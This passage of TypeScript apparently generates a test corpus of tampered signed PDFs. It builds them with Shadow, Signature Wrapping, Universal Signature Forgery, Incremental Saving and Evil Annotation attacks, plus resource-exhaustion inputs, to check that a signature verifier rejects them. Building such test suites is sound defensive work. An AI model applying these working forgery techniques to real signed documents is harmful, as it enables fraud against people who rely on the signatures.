  const kids = (): Buffer => {
    const u = new Update(G);
    const parent = u.reserve();
    const kid = u.add(
      `<< /Type /Annot /Subtype /FreeText /Parent ${parent} /Rect [72 440 540 480] /F 4 /P ${p2} /Contents ${pdfText('Nota')} /DA (/Helv 12 Tf 0 g) /AP << /N ${u.add(banner('Nota: esta carta fue cancelada'))} >> >>`,
    );
    u.set(parent, `<< /FT /Sig /T (Grupo) /Kids [ ${kid} ] >>`);
    u.set(l.page[1]!, page2WithAnnots(l, kid));
    u.set(l.acroForm!, acroFormWithFields(l, parent));
    return u.write();
  };
  const S = letters.shadow;
  const s = objectsOf(S);
  const kidsArray = dictOf(s, s.pages).get(PDFName.of('Kids')) as PDFRef;
  const pageTreeKids = (): Buffer => {
    const u = new Update(S);
    const content = u.add(
      stream('', `BT /F2 20 Tf 72 650 Td ${pdfText('Carta sustituida: ver hoja siguiente.')} Tj ET`),
    );
    const page = u.add(
      `<< /Type /Page /FT /Sig /T (Hoja) /Parent ${String(s.pages)} /MediaBox [0 0 612 792] /Contents ${content} /Resources << /Font << /F2 ${String(s.bold)} >> >> >>`,
    );
    u.set(kidsArray, `[ ${page} ${s.page.map(String).join(' ')} ]`);
    return u.write();
  };
  return [
    {
      name: 'freetext-ft-sig-in-annots',
      attackClass: cls,
      tampered: true,
      description:
        'a FreeText annotation with /FT /Sig and a banner appearance, added to page 2’s /Annots only',
      pdf: onPage2(
        (ap) =>
          `<< /Type /Annot /Subtype /FreeText /FT /Sig /T (Nota) /Rect [72 440 540 480] /F 4 /P ${p2} /Contents ${pdfText('Cancelada')} /DA (/Helv 12 Tf 0 g) /AP << /N ${ap} >> >>`,
        false,
        'CARTA CANCELADA',
      ),
    },
    {
      name: 'stamp-ft-sig-in-fields',
      attackClass: cls,
      tampered: true,
      description:
        'a Stamp annotation with /FT /Sig and an appearance, added to /Annots and the AcroForm’s /Fields',
      pdf: onPage2(
        (ap) =>
          `<< /Type /Annot /Subtype /Stamp /FT /Sig /T (Sello2) /Rect [72 440 540 480] /F 4 /P ${p2} /Name /Void /AP << /N ${ap} >> >>`,
        true,
        'SIN VALIDEZ',
      ),
    },
    {
      name: 'link-ft-sig-whole-page',
      attackClass: cls,
      tampered: true,
      description:
        'a Link annotation with /FT /Sig over the whole of page 2 opening an outside URI (nothing drawn; every click goes there)',
      pdf: (() => {
        const u = new Update(G);
        const link = u.add(
          `<< /Type /Annot /Subtype /Link /FT /Sig /T (Enlace) /Rect [0 0 612 792] /Border [0 0 0] /P ${p2} /A << /S /URI /URI (https://example.invalid/pago) >> >>`,
        );
        u.set(l.page[1]!, page2WithAnnots(l, link));
        u.set(l.acroForm!, acroFormWithFields(l, link));
        return u.write();
      })(),
    },
    {
      name: 'sneaky-signature-field',
      attackClass: cls,
      tampered: true,
      description:
        'Sneaky Signature: a new, unsigned signature field the size of page 1 whose opaque appearance draws another letter',
      pdf: sneaky(),
    },
    {
      name: 'unsigned-field-visible',
      attackClass: cls,
      tampered: true,
      description: 'a new unsigned signature field on page 2 whose appearance says “CARTA CANCELADA”',
      pdf: onPage2(
        (ap) =>
          `<< /Type /Annot /Subtype /Widget /FT /Sig /T (FirmaTercera) /Rect [72 440 540 480] /F 4 /P ${p2} /AP << /N ${ap} >> >>`,
        true,
        'CARTA CANCELADA',
      ),
    },
    {
      name: 'signature-field-kids-freetext',
      attackClass: cls,
      tampered: true,
      description:
        'a new signature field (/FT /Sig, no widget of its own) whose /Kids hold a FreeText annotation with a banner appearance',
      pdf: kids(),
    },
    {
      name: 'page-tree-kids-gain-ft-sig-page',
      attackClass: cls,
      tampered: true,
      base: 'shadow',
      description:
        'the page tree’s (indirect) /Kids array gains, first, a page carrying /FT /Sig with other text (/Count unchanged)',
      pdf: pageTreeKids(),
    },
  ];
}

// ---------------------------------------------------------------------------------------------
// 5. Replay, Universal Signature Forgery, Signature Wrapping

function replayAndForgery(G: Buffer): Draft[] {
  const l = objectsOf(G);
  const cls = ATTACK_CLASSES.replay;
  const municipal = SIGNATURE_FIELD.municipal;
  const sig = l.signature[municipal]!;
  const sigText = rawBody(G, sig).toString('latin1');
  const p2 = String(l.page[1]);
  const [, a, b, c] = /\/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]/
    .exec(sigText)!
    .slice(1)
    .map(Number) as [number, number, number, number];

  const replay = (value: (u: Update) => string): Buffer => {
    const u = new Update(G);
    const widget = u.add(
      `<< /Type /Annot /Subtype /Widget /FT /Sig /T (${WITNESS_FIELD}) /Rect [318 440 540 518] /F 4 /P ${p2} /V ${value(u)} /AP << /N ${String(l.appearance[municipal])} >> >>`,
    );
    u.set(l.page[1]!, page2WithAnnots(l, widget));
    u.set(l.acroForm!, acroFormWithFields(l, widget));
    return u.write();
  };
  /** USF: the page defaced, and the first /Sig dictionary rewritten broken. */
  const forged = (edit: (text: string) => string): Buffer =>
    new Update(G).set(l.content, defacedContent(l)).set(sig, edit(sigText)).write();
  const byteRange = (values: string) => (t: string) =>
    t.replace(/\/ByteRange\s*\[[^\]]*\]/, `/ByteRange ${values}`);

  // SWA: the signed second part (or the whole signed revision) copied after the genuine file;
  // the rewritten /Sig points its /ByteRange at the copy, and the update defaces the page.
  const secondPart = G.subarray(b, b + c);
  const swaMoved = (() => {
    const copyAt = G.length + (G[G.length - 1] === 0x0a ? 0 : 1);
    return new Update(G)
      .set(l.content, defacedContent(l))
      .set(sig, byteRange(`[0 ${a} ${copyAt} ${c}]`)(sigText))
      .write({ gap: secondPart });
  })();
  const signedRevision = G.subarray(0, b + c);
  const swaCopied = (() => {
    const copyAt = G.length + (G[G.length - 1] === 0x0a ? 0 : 1);
    return new Update(G)
      .set(l.content, defacedContent(l))
      .set(sig, byteRange(`[${copyAt} ${a} ${copyAt + b} ${c}]`)(sigText))
      .write({ gap: signedRevision });
  })();

  return [
    {
      name: 'replay-same-signature-dictionary',
      attackClass: cls,
      tampered: true,
      description: `a new field ${WITNESS_FIELD} whose /V is the president’s /Sig dictionary and /AP her appearance`,
      pdf: replay(() => String(sig)),
    },
    {
      name: 'replay-copied-signature-dictionary',
      attackClass: cls,
      tampered: true,
      description: `a new field ${WITNESS_FIELD} whose /V is a copy of the president’s /Sig (same /ByteRange and /Contents)`,
      pdf: replay((u) => u.add(sigText)),
    },
    {
      name: 'usf-contents-empty',
      attackClass: cls,
      tampered: true,
      description: 'USF: page defaced; the president’s /Sig rewritten with /Contents <>',
      pdf: forged((t) => t.replace(/\/Contents\s*<[0-9a-fA-F\s]*>/, '/Contents <>')),
    },
    {
      name: 'usf-contents-missing',
      attackClass: cls,
      tampered: true,
      description: 'USF: page defaced; the president’s /Sig rewritten without /Contents',
      pdf: forged((t) => t.replace(/\/Contents\s*<[0-9a-fA-F\s]*>/, '')),
    },
    {
      name: 'usf-byterange-missing',
      attackClass: cls,
      tampered: true,
      description: 'USF: page defaced; the president’s /Sig rewritten without /ByteRange',
      pdf: forged((t) => t.replace(/\/ByteRange\s*\[[^\]]*\]/, '')),
    },
    {
      name: 'usf-byterange-zero',
      attackClass: cls,
      tampered: true,
      description: 'USF: page defaced; the president’s /Sig rewritten with /ByteRange [0 0 0 0]',
      pdf: forged(byteRange('[0 0 0 0]')),
    },
    {
      name: 'usf-byterange-not-from-start',
      attackClass: cls,
      tampered: true,
      description:
        'USF: page defaced; /ByteRange [100 …]: the first range does not start at the file’s start',
      pdf: forged(byteRange(`[100 ${a - 100} ${b} ${c}]`)),
    },
    {
      name: 'usf-byterange-overlapping',
      attackClass: cls,
      tampered: true,
      description: 'USF: page defaced; /ByteRange ranges overlap (the second starts inside the first)',
      pdf: forged(byteRange(`[0 ${b} ${a} ${c + b - a}]`)),
    },
    {
      name: 'usf-byterange-outside-file',
      attackClass: cls,
      tampered: true,
      description: 'USF: page defaced; /ByteRange’s second range runs 1 MB past the end of the file',
      pdf: forged(byteRange(`[0 ${a} ${b} ${c + 1_000_000}]`)),
    },
    {
      name: 'swa-second-part-moved',
      attackClass: cls,
      tampered: true,
      description:
        'SWA: the president’s signed second part copied after the file; her /Sig rewritten to point /ByteRange at the copy; page defaced',
      pdf: swaMoved,
    },
    {
      name: 'swa-signed-revision-copied',
      attackClass: cls,
      tampered: true,
      description:
        'SWA: the whole revision the president signed copied after the file; /ByteRange points into the copy; page defaced',
      pdf: swaCopied,
    },
  ];
}

// ---------------------------------------------------------------------------------------------
// 6. Bytes outside any revision

function outsideRevisions(G: Buffer): Draft[] {
  const l = objectsOf(G);
  const cls = ATTACK_CLASSES.outside;
  const genuineXref = trailerOf(G).xref;
  const defaced = new Update(G).set(l.content, defacedContent(l)).write();
  const infoOnly = (gap: string | Buffer): Buffer =>
    new Update(G).set(l.info, dictText(dictOf(l, l.info), { ModDate: '(D:20240101000000Z)' })).write({ gap });
  const strayObject = Buffer.concat([
    Buffer.from(`${l.content.objectNumber} 0 obj\n`),
    defacedContent(l),
    Buffer.from('\nendobj\n'),
  ]);
  return [
    {
      name: 'revision-after-repeated-startxref',
      attackClass: cls,
      tampered: true,
      description:
        'a whole defacing revision appended, then `startxref` of the genuine last section and %%EOF again: the chain skips the revision',
      pdf: Buffer.concat([defaced, Buffer.from(`startxref\n${genuineXref}\n%%EOF\n`)]),
    },
    {
      name: 'repeated-startxref-then-revision',
      attackClass: cls,
      tampered: true,
      description: 'a repeated `startxref`/%%EOF of the genuine section, then a defacing revision after it',
      pdf: new Update(G)
        .set(l.content, defacedContent(l))
        .write({ gap: `startxref\n${genuineXref}\n%%EOF\n` }),
    },
    {
      name: 'stray-object-between-revisions',
      attackClass: cls,
      tampered: true,
      description:
        'a defaced `N 0 obj` of page 1’s content between the genuine file and an /Info-only revision, in no cross-reference section',
      pdf: infoOnly(strayObject),
    },
    {
      name: 'trailing-garbage-after-eof',
      attackClass: cls,
      tampered: true,
      description: 'a defaced page 1 content object after the final %%EOF, no section, no second %%EOF',
      pdf: Buffer.concat([G, strayObject]),
    },
  ];
}

// ---------------------------------------------------------------------------------------------
// 7. Shadow attacks (Mainka, Mladenov, Rohlmann, NDSS 2021)

function shadow(letters: Record<BaseName, Buffer>): Draft[] {
  const S = letters.shadow;
  const s = objectsOf(S);
  const cls = ATTACK_CLASSES.shadow;
  const { context } = s.doc;
  const page2 = dictOf(s, s.page[1]!);
  const overlay = page2
    .lookup(PDFName.of('Annots'), PDFArray)
    .asArray()
    .find(
      (ref) =>
        context.lookup(ref, PDFDict).lookupMaybe(PDFName.of('T'), PDFString)?.decodeText() ===
        SHADOW.overlayField,
    ) as PDFRef;
  const ocProperties = s.doc.catalog.get(PDFName.of('OCProperties')) as PDFRef;
  const layer = context.lookup(ocProperties, PDFDict).lookup(PDFName.of('OCGs'), PDFArray).get(0) as PDFRef;
  const stamp = page2
    .lookup(PDFName.of('Resources'), PDFDict)
    .lookup(PDFName.of('XObject'), PDFDict)
    .get(PDFName.of('Sello')) as PDFRef;
  const kids = dictOf(s, s.pages).get(PDFName.of('Kids')) as PDFRef;
  const inTree = new Set(s.page.map(String));
  const [unused] = context
    .enumerateIndirectObjects()
    .filter(
      ([ref, o]) =>
        o instanceof PDFDict && o.get(PDFName.of('Type')) === PDFName.of('Page') && !inTree.has(String(ref)),
    )
    .map(([ref]) => ref);
  if (unused === undefined) throw new Error('the shadow letter has no unused page');

  const hideOverlay = (() => {
    const u = new Update(S);
    const value = u.add('<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached >>');
    const empty = u.add(stream('/Type /XObject /Subtype /Form /BBox [0 0 1 1]', ''));
    u.set(overlay, dictText(dictOf(s, overlay), { V: value, AP: `<< /N ${empty} >>` }));
    return u.write();
  })();
  const stampText = pdfText('Sello: Municipio de Naucalpan de Ju\u00e1rez (sustituye)');
  const replacedStamp = new Update(S).set(
    stamp,
    stream(
      `/Type /XObject /Subtype /Form /BBox [0 0 400 20] /Resources << /Font << /F2 ${String(s.bold)} >> >>`,
      `BT /F2 11 Tf 0.7 0 0 rg 0 4 Td ${stampText} Tj ET`,
    ),
  );
  const stampAt = offsetOf(S, stamp);
  // hide-and-replace with nothing new: page 1 drawn from the unused page's (signed) content.
  const page1 = s.page[0]!;
  const page1At = offsetOf(S, page1);
  const shadowContent = dictOf(s, unused).get(PDFName.of('Contents'))!;
  return [
    {
      name: 'shadow-letter',
      attackClass: ATTACK_CLASSES.legitimate,
      tampered: false,
      base: 'shadow',
      description:
        'control: the shadow letter as signed (revision 1 carries an overlay, an off layer, a stamp XObject, an unused page)',
      pdf: S,
    },
    {
      name: 'hide-overlay-removed-as-signing',
      attackClass: cls,
      tampered: true,
      base: 'shadow',
      description:
        'hide: the overlay (a signature widget in /Annots only) gets /V (a bare /Sig) and an empty /AP, uncovering text drawn under it in revision 1',
      pdf: hideOverlay,
    },
    {
      name: 'hide-layer-turned-on-via-info',
      attackClass: cls,
      tampered: true,
      base: 'shadow',
      description: 'hide: /OCProperties (named in /Info) rewritten with the hidden layer /ON',
      pdf: new Update(S)
        .set(
          ocProperties,
          `<< /OCGs [ ${String(layer)} ] /D << /ON [ ${String(layer)} ] /Order [ ${String(layer)} ] >> >>`,
        )
        .write({ trailer: { Info: String(ocProperties) } }),
    },
    {
      name: 'replace-stamp-listed-twice',
      attackClass: cls,
      tampered: true,
      base: 'shadow',
      description:
        'replace: the stamp XObject redrawn with another municipality, listed first in a section that lists its signed offset last',
      pdf: replacedStamp.write({
        rows: ([at]) => [
          { num: stamp.objectNumber, offset: at! },
          { num: stamp.objectNumber, offset: stampAt },
        ],
      }),
    },
    {
      name: 'replace-stamp-via-info',
      attackClass: cls,
      tampered: true,
      base: 'shadow',
      description: 'replace: the stamp XObject redrawn with another municipality, named in /Info',
      pdf: replacedStamp.write({ trailer: { Info: String(stamp) } }),
    },
    {
      name: 'hide-and-replace-page-tree-via-info',
      attackClass: cls,
      tampered: true,
      base: 'shadow',
      description:
        'hide-and-replace: the page tree’s /Kids (named in /Info) now lists page 1 and the unused page signed in revision 1',
      pdf: new Update(S)
        .set(kids, `[ ${String(s.page[0])} ${String(unused)} ]`)
        .write({ trailer: { Info: String(kids) } }),
    },
    {
      name: 'hide-and-replace-page-listed-twice',
      attackClass: cls,
      tampered: true,
      base: 'shadow',
      description:
        'hide-and-replace: page 1 now drawn from the unused page’s signed content stream, listed first in a section that lists its signed offset last',
      pdf: new Update(S).set(page1, dictText(dictOf(s, page1), { Contents: String(shadowContent) })).write({
        rows: ([at]) => [
          { num: page1.objectNumber, offset: at! },
          { num: page1.objectNumber, offset: page1At },
        ],
      }),
    },
  ];
}

// ---------------------------------------------------------------------------------------------
// 8. Evil Annotation

function evilAnnotations(G: Buffer): Draft[] {
  const l = objectsOf(G);
  const cls = ATTACK_CLASSES.evilAnnotation;
  const p2 = String(l.page[1]);
  const banner = (text: string): Buffer =>
    form(l, [468, 40], `1 1 0.8 rg 0 0 468 40 re f BT /F2 16 Tf 0.6 0 0 rg 10 14 Td ${pdfText(text)} Tj ET`);
  const annotate = (annot: (ap: string) => string, text: string, alsoField = false): Buffer => {
    const u = new Update(G);
    const ref = u.add(annot(u.add(banner(text))));
    u.set(l.page[1]!, page2WithAnnots(l, ref));
    if (alsoField) u.set(l.acroForm!, acroFormWithFields(l, ref));
    return u.write();
  };
  return [
    {
      name: 'evil-freetext',
      attackClass: cls,
      tampered: true,
      description: 'a FreeText annotation with an appearance added after both signatures',
      pdf: annotate(
        (ap) =>
          `<< /Type /Annot /Subtype /FreeText /Rect [72 440 540 480] /F 4 /P ${p2} /Contents ${pdfText('Cancelada')} /DA (/Helv 12 Tf 0 g) /AP << /N ${ap} >> >>`,
        'Nota: carta cancelada por el Cabildo',
      ),
    },
    {
      name: 'evil-stamp',
      attackClass: cls,
      tampered: true,
      description: 'a Stamp annotation with an appearance added after both signatures',
      pdf: annotate(
        (ap) =>
          `<< /Type /Annot /Subtype /Stamp /Rect [72 440 540 480] /F 4 /P ${p2} /Name /Void /AP << /N ${ap} >> >>`,
        'SIN EFECTO',
      ),
    },
    {
      name: 'evil-text-field',
      attackClass: cls,
      tampered: true,
      description: 'a new text field (/FT /Tx) with a value and its appearance, in /Annots and /Fields',
      pdf: annotate(
        (ap) =>
          `<< /Type /Annot /Subtype /Widget /FT /Tx /T (Observaciones) /V ${pdfText('Sin efecto')} /Rect [72 440 540 480] /F 4 /P ${p2} /DA (/Helv 12 Tf 0 g) /AP << /N ${ap} >> >>`,
        'Observaciones: sin efecto',
        true,
      ),
    },
  ];
}

// ---------------------------------------------------------------------------------------------
// 9. Incremental Saving Attack

function incrementalSaving(G: Buffer): Draft[] {
  const l = objectsOf(G);
  const cls = ATTACK_CLASSES.incrementalSaving;
  const revisionOneXref = Number(/startxref\s+(\d+)\s+%%EOF/.exec(G.toString('latin1'))![1]);
  const newRoot = (() => {
    const u = new Update(G);
    const content = u.add(
      stream('', `BT /F2 20 Tf 72 650 Td ${pdfText('Carta sustituida por el Ayuntamiento.')} Tj ET`),
    );
    const pages = u.reserve();
    const page = u.add(
      `<< /Type /Page /Parent ${pages} /MediaBox [0 0 612 792] /Contents ${content} /Resources << /Font << /F2 ${String(l.bold)} >> >> >>`,
    );
    u.set(pages, `<< /Type /Pages /Kids [ ${page} ${String(l.page[1])} ] /Count 2 >>`);
    const catalog = u.add(dictText(dictOf(l, l.catalog), { Pages: pages }));
    return u.write({ trailer: { Root: catalog } });
  })();
  const defaced = new Update(G).set(l.content, defacedContent(l));
  return [
    {
      name: 'isa-content-rewritten',
      attackClass: cls,
      tampered: true,
      description: 'a plain revision that rewrites page 1’s content stream',
      pdf: defaced.write(),
    },
    {
      name: 'isa-new-root',
      attackClass: cls,
      tampered: true,
      description: 'a revision with a new catalog (trailer /Root) whose page tree replaces page 1',
      pdf: newRoot,
    },
    {
      name: 'isa-prev-skips-signatures',
      attackClass: cls,
      tampered: true,
      description:
        'a defacing revision whose /Prev names revision 1’s section, skipping both signing revisions',
      pdf: defaced.write({ trailer: { Prev: String(revisionOneXref) } }),
    },
    {
      name: 'isa-prev-nowhere',
      attackClass: cls,
      tampered: true,
      description: 'a defacing revision whose /Prev names offset 100, inside revision 1’s first object',
      pdf: defaced.write({ trailer: { Prev: '100' } }),
    },
    {
      name: 'isa-xref-points-nowhere',
      attackClass: cls,
      tampered: true,
      description:
        'a revision whose section lists page 1’s content at an offset where no object is; the defaced object sits elsewhere',
      pdf: defaced.write({ rows: () => [{ num: l.content.objectNumber, offset: 200 }] }),
    },
    {
      name: 'isa-xref-lists-missing-object',
      attackClass: cls,
      tampered: true,
      description: 'a defacing revision whose section also lists an object number that no byte defines',
      pdf: defaced.write({
        rows: ([at]) => [
          { num: l.content.objectNumber, offset: at! },
          { num: trailerOf(G).size, offset: at! + 5 },
        ],
      }),
    },
  ];
}

// ---------------------------------------------------------------------------------------------
// 10. Cost

/** Elements of the large array: 2 bytes each ("0 "), about 50 MB. */
export const LARGE_ARRAY_ELEMENTS = 25_000_000;

function cost(letters: Record<BaseName, Buffer>): Draft[] {
  const G = letters.genuine;
  const l = objectsOf(G);
  const cls = ATTACK_CLASSES.cost;
  // `[0 0 … 0 ]`: the zeros at odd offsets.
  const largeArray = Buffer.alloc(2 * LARGE_ARRAY_ELEMENTS + 2);
  largeArray[0] = 0x5b;
  largeArray.fill('0 ', 1, 2 * LARGE_ARRAY_ELEMENTS + 1);
  largeArray[2 * LARGE_ARRAY_ELEMENTS + 1] = 0x5d;
  const added = (body: string | Buffer): Buffer => {
    const u = new Update(G);
    u.add(body);
    return u.write();
  };
  let many = G;
  for (let i = 0; i < 500; i++)
    many = new Update(many)
      .set(
        l.info,
        dictText(dictOf(l, l.info), { ModDate: `(D:2024010100${String(i % 60).padStart(2, '0')}00Z)` }),
      )
      .write();
  const depth = 100_000;
  // What these measure is time and memory. An unused object changes nothing drawn (pyHanko
  // ignores it); it is marked tampered because no signing writes one, and our judge refuses
  // what is not part of a signature. 500 /ModDate updates are harmless, only many.
  return [
    {
      name: 'cost-25-million-element-array',
      attackClass: cls,
      tampered: true,
      cost: true,
      description: `a new, unused object: an array of ${LARGE_ARRAY_ELEMENTS.toLocaleString('en')} zeros (${Math.round(largeArray.length / 1e6)} MB)`,
      pdf: added(largeArray),
    },
    {
      name: 'cost-500-revisions',
      attackClass: cls,
      tampered: false,
      expect: 'over-budget',
      cost: true,
      description: '500 revisions, each rewriting only /Info’s /ModDate',
      pdf: many,
    },
    {
      name: 'cost-deep-nesting',
      attackClass: cls,
      tampered: true,
      cost: true,
      description: `a new, unused object nesting ${depth.toLocaleString('en')} arrays`,
      pdf: added('['.repeat(depth) + ']'.repeat(depth)),
    },
    {
      name: 'cost-stream-length-2-31',
      attackClass: cls,
      tampered: true,
      cost: true,
      description: 'a new, unused stream whose /Length is 2^31 for 4 bytes of data',
      pdf: added('<< /Length 2147483648 >>\nstream\nq Q\n\nendstream'),
    },
    {
      name: 'cost-object-stream-n-10-million',
      attackClass: cls,
      tampered: true,
      cost: true,
      base: 'xref-stream',
      description:
        'on the xref-stream letter: a revision (cross-reference stream) whose object stream claims /N 10,000,000 and redefines /Info in it',
      pdf: objectStreamBomb(letters['xref-stream']),
    },
  ];
}

/**
 * A revision in the cross-reference stream style (§7.5.7, §7.5.8): an object stream that says it
 * holds ten million objects, /Info redefined inside it, and the section as a stream.
 */
function objectStreamBomb(pdf: Buffer): Buffer {
  const text = pdf.toString('latin1');
  const xref = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(text)![1]);
  const dict = text.slice(xref, text.indexOf('stream', xref));
  const size = Number(/\/Size\s+(\d+)/.exec(dict)![1]);
  const root = /\/Root\s+(\d+\s+\d+\s+R)/.exec(dict)![1]!;
  const info = /\/Info\s+(\d+)\s+\d+\s+R/.exec(dict)?.[1];
  const id = /\/ID\s*(\[[^\]]*\])/.exec(dict)?.[1];
  const infoNum = Number(info ?? size + 2);
  const [objStm, xrefNum] = [size, size + 1];
  const parts: Buffer[] = [pdf.at(-1) === 0x0a ? Buffer.alloc(0) : Buffer.from('\n')];
  const offset = (): number => pdf.length + parts.reduce((n, p) => n + p.length, 0);
  const objStmAt = offset();
  const inner = `${infoNum} 0 << /Producer (x) >>`;
  const head = `${infoNum} 0 `;
  parts.push(
    Buffer.from(`${objStm} 0 obj\n`),
    stream(`/Type /ObjStm /N 10000000 /First ${head.length}`, inner),
    Buffer.from('\nendobj\n'),
  );
  const xrefAt = offset();
  const row = (type: number, field2: number, field3: number): Buffer => {
    const b = Buffer.alloc(7);
    b.writeUInt8(type, 0);
    b.writeUInt32BE(field2, 1);
    b.writeUInt16BE(field3, 5);
    return b;
  };
  const rows = Buffer.concat([
    row(2, objStm, 0), // /Info, object 0 of the object stream
    row(1, objStmAt, 0),
    row(1, xrefAt, 0),
  ]);
  parts.push(
    Buffer.from(`${xrefNum} 0 obj\n`),
    stream(
      `/Type /XRef /Size ${xrefNum + 1} /W [1 4 2] /Index [${infoNum} 1 ${objStm} 2] /Root ${root} /Info ${infoNum} 0 R${id ? ` /ID ${id}` : ''} /Prev ${xref}`,
      rows,
    ),
    Buffer.from(`\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`),
  );
  return Buffer.concat([pdf, ...parts]);
}

// ---------------------------------------------------------------------------------------------
// Legitimate extensions: they must stay valid

function legitimate(letters: Record<BaseName, Buffer>): Draft[] {
  const G = letters.genuine;
  const l = objectsOf(G);
  const f = signingFixtures();
  const cls = ATTACK_CLASSES.legitimate;
  const dss = (() => {
    const u = new Update(G);
    const der = (path: string): Buffer =>
      Buffer.from(
        readFileSync(path, 'latin1')
          .replace(/-----[^-]+-----/g, '')
          .replace(/\s+/g, ''),
        'base64',
      );
    const certs = [f.root, f.intermediate, f.president, f.commissioner].map((p) =>
      u.add(stream('', p.certDer)),
    );
    const crls = [f.crlPath, f.rootCrlPath].map((p) => u.add(stream('', der(p))));
    const store = u.add(`<< /Type /DSS /Certs [ ${certs.join(' ')} ] /CRLs [ ${crls.join(' ')} ] >>`);
    u.set(l.catalog, dictText(dictOf(l, l.catalog), { DSS: store }));
    return u.write();
  })();
  const info = new Update(G)
    .set(
      l.info,
      dictText(dictOf(l, l.info), {
        ModDate: '(D:20240101120000Z)',
        Producer: pdfText('manifiesta (metadatos actualizados)'),
      }),
    )
    .write();
  const emptyField = (() => {
    const u = new Update(G);
    const widget = u.add(
      `<< /Type /Annot /Subtype /Widget /FT /Sig /T (${WITNESS_FIELD}) /Rect [0 0 0 0] /F 2 /P ${String(l.page[1])} >>`,
    );
    u.set(l.page[1]!, page2WithAnnots(l, widget));
    u.set(l.acroForm!, acroFormWithFields(l, widget));
    return u.write();
  })();
  return [
    {
      name: 'genuine-letter',
      attackClass: cls,
      tampered: false,
      description: 'control: the letter signed by the president, then the commissioner',
      pdf: G,
    },
    {
      name: 'third-signature-pyhanko-existing-field',
      attackClass: cls,
      tampered: false,
      base: 'three-fields',
      description: `the three-field letter, signed twice by us and a third time by pyHanko (persona moral) into its empty ${WITNESS_FIELD}`,
      pdf: pyhankoSign(letters['three-fields'], WITNESS_FIELD, f.moral),
    },
    {
      name: 'third-signature-pyhanko-new-field',
      attackClass: cls,
      tampered: false,
      expect: 'new-signature-fields',
      description: `pyHanko signs (persona moral) into a new visible field ${WITNESS_FIELD} on page 2`,
      pdf: pyhankoSign(G, `2/318,440,540,518/${WITNESS_FIELD}`, f.moral),
    },
    {
      name: 'three-field-letter',
      attackClass: cls,
      tampered: false,
      base: 'three-fields',
      description: `control: the three-field letter signed twice, ${WITNESS_FIELD} still empty`,
      pdf: letters['three-fields'],
    },
    {
      name: 'dss-by-pyhanko',
      attackClass: cls,
      tampered: false,
      description:
        'a /DSS revision by pyHanko (add_validation_info for the commissioner’s signature, local CRLs)',
      pdf: pyhankoLtv(G, SIGNATURE_FIELD.institute),
    },
    {
      name: 'dss-by-hand',
      attackClass: cls,
      tampered: false,
      description: 'a /DSS revision written here: the catalog gains /DSS with /Certs and /CRLs streams',
      pdf: dss,
    },
    {
      name: 'info-only-update',
      attackClass: cls,
      tampered: false,
      description: 'the same /Info object rewritten with a new /ModDate and /Producer',
      pdf: info,
    },
    {
      name: 'new-empty-invisible-signature-field',
      attackClass: cls,
      tampered: false,
      description: 'a new empty signature field, hidden and zero-sized, in /Annots and /Fields',
      pdf: emptyField,
    },
    {
      name: 'crlf-after-eof',
      attackClass: cls,
      tampered: false,
      description: 'CRLF appended after the final %%EOF (and its LF)',
      pdf: Buffer.concat([G, Buffer.from('\r\n')]),
    },
    {
      name: 'lf-after-eof',
      attackClass: cls,
      tampered: false,
      description: 'one more LF after the final %%EOF',
      pdf: Buffer.concat([G, Buffer.from('\n')]),
    },
    {
      name: 'spaces-after-eof',
      attackClass: cls,
      tampered: false,
      description: 'three spaces after the final %%EOF',
      pdf: Buffer.concat([G, Buffer.from('   ')]),
    },
    {
      name: 'undefined-ref-letter',
      attackClass: cls,
      tampered: false,
      base: 'undefined-ref',
      description: `control: the letter whose page 2 names an undefined XObject ${UNDEFINED_OBJECT} 0 R, signed twice`,
      pdf: letters['undefined-ref'],
    },
    {
      name: 'xref-stream-letter',
      attackClass: cls,
      tampered: false,
      base: 'xref-stream',
      description:
        'revision 1 with object streams and a cross-reference stream (pdf-lib), signed twice by pyHanko',
      pdf: letters['xref-stream'],
    },
    {
      name: 'document-timestamp-pyhanko',
      attackClass: cls,
      tampered: false,
      description:
        'a document time-stamp (/DocTimeStamp) by pyHanko, its in-process TSA (DummyTimeStamper) with a test-PKI TSA certificate',
      pdf: pyhankoTimestamp(G, timestampAuthority()),
    },
  ];
}

// ---------------------------------------------------------------------------------------------
// Our judge

export interface OurSignatureVerdict {
  readonly field: string;
  readonly valid: boolean;
  readonly code: string | null;
  /** The first problem of the /Sig dictionary, else the first modification not allowed. */
  readonly detail: string | null;
}

export interface OurVerdict {
  readonly valid: boolean;
  /** `Name: message` of what verifyPdfSignatures threw; null when it answered. */
  readonly threw: string | null;
  /**
   * What it threw is one of the two it documents: PdfStructureError (MALFORMED_INPUT) or
   * PdfLimitError (VERIFICATION_LIMIT_EXCEEDED).
   */
  readonly structureError: boolean;
  readonly signatures: readonly OurSignatureVerdict[];
  /** Time in verifyPdfSignatures. */
  readonly ms: number;
  /** Cost cases, judged in a child process: its peak resident memory, and whether it was killed. */
  readonly peakRssMb?: number;
  readonly killedAfterS?: number;
}

/** The trust testVerifier() has (both CAs, their CRLs, revocation required), as files. */
function trustFiles(): string[] {
  const f = signingFixtures();
  return [f.root.certPath, f.intermediate.certPath, f.crlPath, f.rootCrlPath];
}

/**
 * verifyPdfSignatures takes a synchronous SignatureVerifier; testVerifier() is the asynchronous
 * pool of the activities. This one trusts the same: both CAs, their CRLs, revocation required.
 */
export function ourVerifier(files: readonly string[] = trustFiles()): SignatureVerifier {
  return new SignatureVerifier(
    loadTrustStore({
      anchors: files.filter((p) => !p.includes('.crl.')),
      crls: files.filter((p) => p.includes('.crl.')),
      revocationPolicy: 'required',
    }),
  );
}

/** Our verdict on `pdf`, through the public verifyPdfSignatures only. */
export async function ourVerdict(
  pdf: Buffer,
  verifier: SignatureVerifier,
  policy?: JudgePolicy,
): Promise<OurVerdict> {
  const started = process.hrtime.bigint();
  const ms = (): number => Number(process.hrtime.bigint() - started) / 1e6;
  try {
    // Awaited: the same test holds if the judge becomes asynchronous.
    const result = await Promise.resolve(verifyPdfSignatures(pdf, verifier, { policy }));
    const elapsed = ms();
    return {
      valid: result.valid,
      threw: null,
      structureError: false,
      ms: elapsed,
      signatures: result.signatures.map((s) => ({
        field: s.field,
        valid: s.valid,
        code: s.code ?? null,
        detail: s.problems[0] ?? s.modifications.details.find((d) => d.includes('not allowed')) ?? null,
      })),
    };
  } catch (error) {
    const elapsed = ms();
